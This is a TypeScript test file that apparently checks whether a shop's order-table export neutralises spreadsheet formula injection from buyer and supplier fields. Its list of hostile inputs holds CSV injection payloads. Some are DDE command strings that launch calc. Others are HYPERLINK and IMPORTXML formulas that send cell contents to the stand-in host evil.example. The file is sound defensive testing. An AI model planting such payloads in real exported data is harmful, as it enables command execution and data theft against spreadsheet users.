import type { Share } from '@xiaopu/domain'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { inDatabase } from '../hooks/books.ts'
import { listGoods, type Placed } from '../market.ts'
import { at1688, becomes, buy, order } from '../scenarios/story.ts'
import { eventually, type OpenShop, openShop } from '../shop.ts'
import { fieldsOf, names, rowsOf, table } from './read-table.ts'

/** What buyers and suppliers have written into fields to have a spreadsheet do something. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A2,"点我")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000＝1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '"=1+1"',
  '","=1+1","',
  'a"\r\n=1+1,"b',
  ';=1+1',
  "'=1+1",
  "''",
  '|calc',
  '%0A=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
] as const

/** Anything that Excel, WPS, LibreOffice or Google Sheets would calculate. */
const formula = /^[\s\p{C}]*[=+\-@|%＝＋－＠]|^[\t\r\n]/u

let market: OpenShop
let placed: Placed
let share: Share

beforeAll(async () => {
  market = await openShop()
  const goods = await listGoods(market, 1)
  placed = await order(market, goods)
  const bought = await buy(market, placed)
  await market.control(`${at1688(bought)}/ship`, {})
  await eventually(async () => (await placed.read()).shipments.length > 0)
  await becomes(placed, 'shipped')
  const body = { channel: 'wechat', name: '群' }
  share = (await market.sell<{ share: Share }>('/v1/seller/shares', { body })).json.share
}, 120_000)
afterAll(() => market.close({ audited: false }))

/** Every field that somebody else's words come from. */
async function write(words: string): Promise<void> {
  const text = `$words$${words}$words$`
  const json = (value: unknown) => `$words$${JSON.stringify(value)}$words$::jsonb`
  await inDatabase(
    market,
    `update order_lines set title = ${text},
    properties = ${json([{ name: words, value: words }])}`,
  )
  await inDatabase(market, `update shipments set carrier = ${text}, number = ${text}`)
  await inDatabase(market, `update shares set name = ${text}`)
  await inDatabase(
    market,
    `update orders set remark = ${text}, share_id = '${share.id}',
    address = address || ${json({ name: words })}`,
  )
}

test.each(hostile)(
  'S-17: %j in every field is text in the table, and the same text',
  async (words) => {
    await write(words)
    const { text } = await table(market)
    const [, fields = [], ...others] = fieldsOf(text)
    expect(others).toEqual([])
    const [row] = rowsOf(text)
    for (const name of ['title', 'carrier', 'parcel', 'share', 'buyer', 'remark'] as const)
      expect(row?.[name], name).toBe(words)
    expect(row?.properties).toBe(`${words}: ${words}`)
    const numbers = new Set([
      'quantity',
      'price',
      'subtotal',
      'freight',
      'discount',
      'total',
      'cost',
    ])
    for (const [at, field] of fields.entries()) {
      const name = names[at] ?? ''
      if (numbers.has(name) || name === 'refunded') expect(field, name).toMatch(/^\d+(\.\d\d)?$/)
      else if (name === 'profit') expect(field).toMatch(/^-?\d+\.\d\d$/)
      else expect(field, name).not.toMatch(formula)
    }
  },
)
